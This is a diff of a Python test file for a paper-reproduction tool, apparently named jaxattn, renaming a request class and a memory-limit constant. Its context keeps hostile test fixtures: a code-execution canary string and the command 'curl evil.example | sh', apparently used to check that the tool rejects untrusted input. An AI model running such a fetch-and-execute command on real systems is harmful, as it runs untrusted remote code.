@@ -26,7 +26,7 @@ import jaxattn as ja
 from jaxattn.core.errors import InputError, RunError
 from jaxattn.lab import cli
 from jaxattn.lab.books import read_book, reproduce
-from jaxattn.lab.books.run import Asked
+from jaxattn.lab.books.run import Request
 from jaxattn.lab.engine.progress import Reporter
 from jaxattn.lab.results import report
 from jaxattn.lab.results.figures import KINDS
@@ -36,7 +36,7 @@ CODE = "evil.py:M"
 EVIL = "from pathlib import Path\nPath({!r}).touch()\ndef M(*_, **__): Path({!r}).touch()\n"
 EVIL_COMMAND = "curl evil.example | sh"
 # Memory that reading a folder may use.
-MOST_KIB = 2**20
+MAX_KIB = 2**20
 SECRET = b"\x89PNG what only its owner reads"
 # Values that replace a value of JSON.
 STRANGE = (
@@ -98,7 +98,7 @@ def _run_of(out: Path) -> Path:
 def _whole(out: Path) -> Path:
     """Return a finished item of the paper in small sizes, with its report and its page."""
     with Reporter(quiet=True) as reporter:
-        asked = Asked([ITEM.name], overrides=TINY)
+        asked = Request([ITEM.name], overrides=TINY)
         reproduce(PAPER, asked, out=out, command="jaxattn reproduce", reporter=reporter)
     report.write_report(_run_of(out))
     return out
@@ -119,7 +119,7 @@ def _use(out: Path, place: Path, uses: Sequence[Callable[[Path, Path], None]]) -
                 refused += [""] if ended.code else []
             spent = time.monotonic() - begin
             grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - held
-            assert grown < MOST_KIB, f"{use.__name__} took {grown / 2**20:.1f} GiB more"
+            assert grown < MAX_KIB, f"{use.__name__} took {grown / 2**20:.1f} GiB more"
             # A run that starts again reports its progress.
             assert spent < LONGEST_S or use is _reproduce, f"{use.__name__} took {spent:.0f} s"
     assert "Traceback" not in said.getvalue(), said.getvalue()
@@ -178,12 +178,12 @@ def _draw(run: Path, out: Path) -> None:
 def _page(run: Path, out: Path) -> None:
     """Make the page of all items; nothing is run, because no data are given and one item is requested."""
     with Reporter(quiet=True) as reporter:
-        reproduce(PAPER, Asked(["fig3_imdb"], overrides=TINY), out=out, command="x", reporter=reporter)
+        reproduce(PAPER, Request(["fig3_imdb"], overrides=TINY), out=out, command="x", reporter=reporter)
 
 
 def _reproduce(run: Path, out: Path) -> None:
     with Reporter(quiet=True) as reporter:
-        asked = Asked([ITEM.name], overrides=TINY)
+        asked = Request([ITEM.name], overrides=TINY)
         found = reproduce(PAPER, asked, out=out, command="x", reporter=reporter)
     if found.failed:
         raise RunError("; ".join(found.failed.values()))
